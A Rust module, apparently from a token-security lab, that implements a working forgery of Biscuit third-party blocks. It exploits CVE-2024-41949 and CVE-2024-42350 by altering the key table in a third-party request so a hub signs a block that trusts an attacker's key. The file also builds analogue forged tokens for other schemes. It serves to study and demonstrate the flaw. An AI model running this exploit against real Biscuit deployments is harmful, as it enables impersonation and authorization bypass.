//! A third-party block of a Biscuit that trusts another key than its author
//! wrote.
//!
//! The flawed assumption: who signs a block knows what it says. In the versions
//! before 4 of the format a third-party block named public keys by their numbers
//! in a table that belongs to the whole token, and the third party, which does
//! not see the token, got that table from the holder. Mallory puts a key of her
//! own into the token and another's in its place into the request: the third
//! party writes "trusting C", signs "trusting number 1", and number 1 is hers
//! (CVE-2024-41949 in biscuit-auth 4, CVE-2024-42350 in the specification).
//!
//! The cast is the advisory's: the issuer A trusts the hub B, the hub trusts the
//! identity provider C, and D is Mallory. Both releases are played as they are,
//! by their own libraries; what is altered on the way is one field of one
//! message. Other formats have no parts by third parties.

use biscuit_auth as release_6;
use biscuit_auth_4_1_1 as release_4;
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::{AttackerView, VICTIM};
use crate::biscuit::{self, Message, Value as Field};
use crate::card::AttackProfile;
use crate::desk::ThirdParty;
use crate::given::Given;
use crate::mint;
use crate::model::federation;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct BiscuitThirdpartyKey;

static PROFILE: AttackProfile = AttackProfile {
    id: "biscuit-thirdparty-key",
    title: "Third-party block that trusts another key",
    assumption: "Who signs a block knows what it says.",
    class: AttackClass::Native,
    given: &[Given::ThirdParty],
    isolated: false,
    breaks: &[Weakness::SharedKeyTable],
    references: &[
        (
            "CVE-2024-41949",
            "biscuit-auth 4.0.0 to 4.1.1 (GHSA-p9w4-585h-g3c7); fixed in 5.0.0.",
        ),
        (
            "CVE-2024-42350",
            "Biscuit's specification before version 4 of the format (GHSA-rgqv-mwc3-c78m).",
        ),
        (
            "CVE-2024-41948",
            "biscuit-java (GHSA-5hcj-rwm6-xmw4); fixed in 4.0.0.",
        ),
        (
            "Biscuit specification, Third-party blocks",
            "Since version 4 of the format a third-party block has symbol and key tables of its own.",
        ),
    ],
    lesson: include_str!("../../lessons/biscuit-thirdparty-key.md"),
};

impl Attack for BiscuitThirdpartyKey {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        match (view.scheme(), view.third_party()?) {
            (Scheme::Biscuit, Some(third_party)) => {
                let failed = CannotForge::Failed;
                let unconfirmed = third_party.unconfirmed(view.wanted()).map_err(failed)?;
                notes.step(
                    format!("Asks for a token in the name of {VICTIM}, which is worth nothing until the hub confirms it."),
                    unconfirmed.as_str(),
                );
                let mut forgeries = Vec::new();
                for release in &RELEASES {
                    match confirmed(release, &unconfirmed, third_party, notes) {
                        Ok(confirmed) => forgeries.extend(confirmed),
                        Err(reason) => notes.step(
                            format!(
                                "Tries it with a library of {}, whose message is refused.",
                                release.name
                            ),
                            reason,
                        ),
                    }
                }
                Ok(forgeries)
            }
            (Scheme::Biscuit, None) => Err(CannotForge::Inexpressible {
                why: "no third party signs for this issuer, and only the authority block is asked for claims"
                    .into(),
                tried: vec![third_party_authority(view, notes)?],
            }),
            _ => Err(CannotForge::Inexpressible {
                why: "a token of this family has no parts that others than the issuer sign".into(),
                tried: vec![by_another(view, notes)?],
            }),
        }
    }
}

/// The library of one release, as any holder may use it.
struct Release {
    name: &'static str,
    /// Her block in a token, and the request for the next block.
    prepare: fn(&str) -> Result<Prepared, String>,
    /// A third party's block in a token.
    append: fn(&str, &[u8]) -> Result<String, String>,
}

/// A token with her block, and the request for the next one.
struct Prepared {
    token: String,
    request: Vec<u8>,
}

const RELEASES: [Release; 2] = [
    Release {
        name: "release-4",
        prepare: |token| prepared_by_4(token).map_err(|error| error.to_string()),
        append: |token, block| {
            let token = release_4::UnverifiedBiscuit::from_base64(token);
            let token = token.and_then(|token| token.append_third_party(block)?.to_base64());
            token.map_err(|error| error.to_string())
        },
    },
    Release {
        name: "release-6",
        prepare: |token| prepared_by_6(token).map_err(|error| error.to_string()),
        append: |token, block| {
            let token = release_6::UnverifiedBiscuit::from_base64(token);
            let token = token.and_then(|token| token.append_third_party(block)?.to_base64());
            token.map_err(|error| error.to_string())
        },
    },
];

fn prepared_by_4(token: &str) -> Result<Prepared, release_4::error::Token> {
    let own = release_4::KeyPair::new();
    let mut login = release_4::builder::BlockBuilder::new();
    login.add_code(federation::logged_in(VICTIM))?;
    let token = release_4::UnverifiedBiscuit::from_base64(token)?;
    let request = token.third_party_request()?;
    let block = request.create_block(&own.private(), login)?.serialize()?;
    let token = token.append_third_party(&block)?;
    Ok(Prepared {
        request: token.third_party_request()?.serialize()?,
        token: token.to_base64()?,
    })
}

fn prepared_by_6(token: &str) -> Result<Prepared, release_6::error::Token> {
    let own = release_6::KeyPair::new();
    let login = release_6::BlockBuilder::new().code(federation::logged_in(VICTIM))?;
    let token = release_6::UnverifiedBiscuit::from_base64(token)?;
    let request = token.third_party_request()?;
    let block = request.create_block(&own.private(), login)?.serialize()?;
    let token = token.append_third_party(&block)?;
    Ok(Prepared {
        request: token.third_party_request()?.serialize()?,
        token: token.to_base64()?,
    })
}

/// What she gets out of the hub with the library of one release: by a request
/// as it is, and by one whose table of keys she has written.
fn confirmed(
    release: &Release,
    unconfirmed: &str,
    hub: &dyn ThirdParty,
    notes: &mut Notebook,
) -> Result<Vec<Forgery>, String> {
    let Prepared { token, request } = (release.prepare)(unconfirmed)?;
    let honest = hub.confirm(VICTIM, &request)?;
    let mut forgeries = Vec::new();
    let mut keep = |kind: &str, says: &str, block: &[u8]| -> Result<(), String> {
        let variant = format!("{kind}-by-{}", release.name);
        notes.variant_step(
            variant.as_str(),
            format!("Appends a block, signed with a key of her own, which says that {VICTIM} has logged in."),
            token.as_str(),
        );
        notes.variant_step(variant.as_str(), says, mint::hexadecimal(block));
        forgeries.push(Forgery::new(variant, (release.append)(&token, block)?));
        Ok(())
    };
    keep(
        "honest-request",
        "Asks the hub to confirm the name, gets its block, and appends it.",
        &honest,
    )?;
    if let Some(altered) = with_key_of_provider(&request, &honest)
        && let Ok(block) = hub.confirm(VICTIM, &altered)
    {
        keep(
            "altered-request",
            "Writes the identity provider's key into the request, under the number that her own key has in the token.",
            &block,
        )?;
    }
    Ok(forgeries)
}

/// The request with one key more: the provider's, as the hub's own block names
/// it.
fn with_key_of_provider(request: &[u8], block: &[u8]) -> Option<Vec<u8>> {
    let contents = Message::read(block)?;
    let block = Message::read(contents.bytes(PAYLOAD)?)?;
    let provider = block.bytes(BLOCK_KEYS)?.to_vec();
    let mut request = Message::read(request)?;
    let place = request
        .0
        .iter()
        .take_while(|(number, _)| *number <= REQUEST_KEYS)
        .count();
    request.0.insert(place, (REQUEST_KEYS, Field::Bytes(provider)));
    Some(request.write())
}

/// Within a third-party block's contents: the block itself.
const PAYLOAD: u64 = 1;
/// Within a block: public keys that it adds to a table.
const BLOCK_KEYS: u64 = 8;
/// Within a request: the public keys of the token, until version 4 of the format.
const REQUEST_KEYS: u64 = 2;
/// Within a signed block: the signature of a third party.
const EXTERNAL_SIGNATURE: u64 = 4;

/// Where nobody signs but the issuer: a first block that a third party signed.
fn third_party_authority(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "third-party-authority";
    notes.variant_step(
        variant,
        "Signs a biscuit, in which the subject is admin, with a root key of her own, and marks it as a third party's.",
        "",
    );
    let own = view.biscuit_by_own_key()?;
    let marked = own.changed_within(biscuit::AUTHORITY, |block| {
        let key = block.bytes(biscuit::NEXT_KEY).unwrap_or_default().to_vec();
        let signature = block.bytes(biscuit::SIGNATURE).unwrap_or_default().to_vec();
        let external = Message(vec![(1, Field::Bytes(signature)), (2, Field::Bytes(key))]);
        block.with(EXTERNAL_SIGNATURE, Field::Bytes(external.write()))
    });
    let token = marked.ok_or_else(|| CannotForge::Failed("her biscuit has no first block".into()))?;
    Ok(Forgery::analogue(
        variant,
        token.to_token(),
        "no third party is asked here, so a block that claims to be one's takes the first place",
    ))
}

/// In other families: a token that somebody else than the issuer signed.
fn by_another(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let variant = "by-another";
    notes.variant_step(
        variant,
        "Makes a token, in which the subject is admin, with a key of her own, and names a third party's.",
        "",
    );
    Ok(Forgery::analogue(
        variant,
        view.token_by_own_key("third-party")?,
        "a token has one author, so a token by another than the issuer is the nearest thing to another's block",
    ))
}
